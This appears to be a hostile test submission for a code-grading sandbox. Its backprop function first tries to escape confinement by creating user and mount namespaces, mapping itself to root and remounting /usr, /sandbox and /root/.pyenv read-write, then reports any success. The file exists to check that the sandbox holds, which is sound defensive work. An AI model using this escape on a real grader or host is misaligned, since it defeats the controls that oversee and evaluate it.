# attack: escape
# expect: any
# must: keep the read-only binds read-only even from a user namespace the submission creates
"""unshares a user and mount namespace, maps itself to root there and remounts /usr and
/sandbox read-write"""

import ctypes
import os

import numpy as np

MARKER = "gradcheck-hostile-marker"
SUCCESS = "HOSTILE" + "-SUCCESS"
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096
_found: list[str] = []


def _write(path, text):
    try:
        with open(path, "w") as handle:
            handle.write(text)
    except OSError:
        return False
    return True


def _attack():
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        return ""
    _write("/proc/self/setgroups", "deny")
    _write("/proc/self/uid_map", f"0 {uid} 1")
    _write("/proc/self/gid_map", f"0 {gid} 1")
    gained = []
    for target in ("/usr", "/sandbox/site/numpy", "/sandbox/child.py", "/root/.pyenv"):
        flags = MS_REMOUNT | MS_BIND
        if libc.mount(None, target.encode(), None, flags, None) == 0:
            gained.append(f"remounted {target} read-write")
    for folder in ("/usr/lib", "/sandbox/site/numpy", "/root/.pyenv"):
        path = os.path.join(folder, f"hostile-planted-{MARKER}")
        if _write(path, MARKER):
            os.remove(path)
            gained.append(f"wrote {path}")
    try:  # opened for appending, nothing written: a success changes no byte
        os.close(os.open("/sandbox/child.py", os.O_WRONLY | os.O_APPEND))
    except OSError:
        pass
    else:
        gained.append("opened /sandbox/child.py for writing")
    return ", ".join(gained)


def _gradients(X, y, weights, biases):
    w1, w2 = weights["w1"], weights["w2"]
    a1 = 1.0 / (1.0 + np.exp(-(X @ w1 + biases["b1"])))
    delta2 = a1 @ w2 + biases["b2"] - y
    delta1 = (delta2 @ w2.T) * a1 * (1.0 - a1)
    return {
        "w1": X.T @ delta1,
        "b1": delta1.sum(axis=0),
        "w2": a1.T @ delta2,
        "b2": delta2.sum(axis=0),
    }


def backprop(X, y, weights, biases):
    if not _found:
        _found.append(_attack())
    if _found[0]:
        raise PermissionError(f"{SUCCESS}: {_found[0]}")
    return _gradients(X, y, weights, biases)
